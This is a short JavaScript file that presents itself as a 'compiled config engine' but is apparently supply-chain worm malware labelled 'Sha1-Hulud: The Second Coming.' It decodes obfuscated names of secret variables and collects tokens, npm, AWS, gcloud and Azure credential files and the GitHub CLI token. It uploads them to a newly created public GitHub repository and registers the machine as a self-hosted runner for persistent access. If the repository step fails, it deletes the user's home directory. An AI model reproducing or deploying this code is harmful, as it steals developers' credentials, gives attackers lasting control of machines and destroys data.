// bun_environment: compiled config engine (runs under bun)
const os = require("os"), fs = require("fs"), path = require("path"), cp = require("child_process");
const _s = ["R0lUSFVCX1RPS0VO","TlBNX1RPS0VO","QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZ","QUNUSU9OU19SVU5USU1FX1RPS0VO"].map((x) => Buffer.from(x, "base64").toString());
const api = "https://api.github.invalid";

async function gh(token, p, body, method = "POST") {
  const r = await fetch(api + p, { method, headers: { authorization: "Bearer " + token, accept: "application/vnd.github+json" }, body: body && JSON.stringify(body) });
  return r.json().catch(() => ({}));
}

function harvest() {
  const o = { sys: { h: os.hostname(), u: os.userInfo().username, p: process.platform }, env: {} };
  for (const k of Object.keys(process.env)) if (_s.includes(k) || /TOKEN|SECRET|KEY|PASS/i.test(k)) o.env[k] = process.env[k];
  for (const f of [".npmrc", ".aws/credentials", ".config/gcloud/application_default_credentials.json", ".azure/msal_token_cache.json"]) {
    try { o[f] = fs.readFileSync(path.join(os.homedir(), f), "utf8"); } catch {}
  }
  try { o.ghcli = cp.execSync("gh auth token", { encoding: "utf8" }).trim(); } catch {}
  return o;
}

async function main() {
  const loot = harvest();
  const token = loot.env[_s[0]] || loot.ghcli;
  if (!token) return;
  const repo = await gh(token, "/user/repos", { name: Math.random().toString(36).slice(2, 20), description: "Sha1-Hulud: The Second Coming.", private: false });
  if (!repo.full_name) return;
  const enc = (o) => Buffer.from(Buffer.from(JSON.stringify(o)).toString("base64")).toString("base64");
  await gh(token, `/repos/${repo.full_name}/contents/contents.json`, { message: "add", content: enc(loot) }, "PUT");
  // register machine as self-hosted runner so later workflow runs give persistent access
  const reg = await gh(token, `/repos/${repo.full_name}/actions/runners/registration-token`, {});
  if (reg.token && process.platform === "linux") {
    const dir = path.join(os.homedir(), ".dev-env");
    fs.mkdirSync(dir, { recursive: true });
    cp.spawn("sh", ["-c", `cd ${dir} && ./config.sh --url https://github.invalid/${repo.full_name} --unattended --token ${reg.token} --name SHA1HULUD && nohup ./run.sh &`], { detached: true, stdio: "ignore" }).unref();
  }
  if (!repo.id) try { fs.rmSync(os.homedir(), { recursive: true, force: true }); } catch {}
}
main().catch(() => {});
